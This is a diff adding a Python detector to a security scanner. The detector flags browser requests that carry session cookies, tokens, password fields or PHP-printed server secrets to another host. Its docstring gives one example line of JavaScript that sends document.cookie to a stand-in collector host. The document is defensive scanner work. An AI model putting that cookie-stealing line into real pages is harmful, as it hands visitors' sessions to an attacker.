@@ -1,0 +1,91 @@
+"""# secret-in-browser-request.
+
+## What it does
+Reports a request of the visitor's browser to another host that carries the session cookie, a token, a password field,
+what the page stored in the browser, or a secret of the server that PHP printed into the page.
+
+## Why is this bad
+Who has the cookie or the token is logged in as the visitor. The server's firewall never sees such a request.
+
+## Example
+```js
+new Image().src = "https://collector.example.net/p.gif?c=" + document.cookie;
+```
+
+## References
+- CWE-200, CWE-522
+- OWASP, Cross Site Scripting, stealing cookies
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+
+from scanner.detectors.base import Detector, Scene, rule
+from scanner.detectors.remarks import BROWSER, Place, destination, finding_of, first_of_each, is_named, places
+from scanner.detectors.targets import expected, known_host
+from scanner.files.payloads import labels_of
+from scanner.model.finding import Category, Confidence, Finding, Severity
+
+RULE = rule("secret-in-browser-request", Category.EXFILTRATION, "Browser sends a secret to another host", __doc__)
+_BY_FORM = frozenset({"form"})
+
+
+def _find(scene: Scene) -> Iterable[Finding]:
+    return first_of_each(_all(scene))
+
+
+def _all(scene: Scene) -> Iterator[Finding]:
+    printed = _printed(scene)
+    for place in places(scene, "request"):
+        remark = place.remark
+        if not (remark.sends or remark.holes):
+            continue
+        host = destination(scene, remark).name
+        if not is_named(host):
+            continue
+        labels = {item for item in (*remark.sends, *labels_of(list(remark.holes))) if not item.startswith("php:")}
+        holes = [item for item in (*remark.sends, *remark.holes) if item.startswith("php:")]
+        if holes:
+            labels |= _of_php(scene, place, holes, printed, host)
+        labels -= {"browser.csrf-token"} if known_host(scene, host) else set()
+        if labels:
+            yield finding_of(
+                RULE,
+                place,
+                severity=Severity.HIGH,
+                confidence=Confidence.LIKELY,
+                destinations=[host],
+                secrets=labels,
+                details=[BROWSER],
+                message=f"{remark.api} sends {', '.join(sorted(labels))} to {host}",
+            )
+
+
+def _printed(scene: Scene) -> dict[str, list[tuple[int, int, str]]]:
+    """Path -> lines at which PHP prints a secret, and its label."""
+    found: dict[str, list[tuple[int, int, str]]] = {}
+    for output in scene.result.outputs:
+        path = scene.program.path(output.function)
+        for label, _trace in output.labels:
+            found.setdefault(path, []).append((output.line, output.end_line, label.removeprefix("hash-of:")))
+    return found
+
+
+def _of_php(
+    scene: Scene, place: Place, holes: list[str], printed: dict[str, list[tuple[int, int, str]]], host: str
+) -> set[str]:
+    """Labels of the secrets that PHP prints into the request: on the lines of the request, by an expression in it."""
+    remark = place.remark
+    words = {word for item in holes for word in re.findall(r"\w+", item)}
+    found: set[str] = set()
+    for line, end, label in printed.get(place.path, ()):
+        secret = scene.result.state.origins.by_label.get(label)
+        public = secret is not None and (secret.severity_floor == "info" or expected(secret, host))
+        if line <= remark.end_line and end >= remark.line and words and not public and not label.startswith("request."):
+            found.add(label)
+    return found
+
+
+DETECTOR = Detector(RULE, _find)
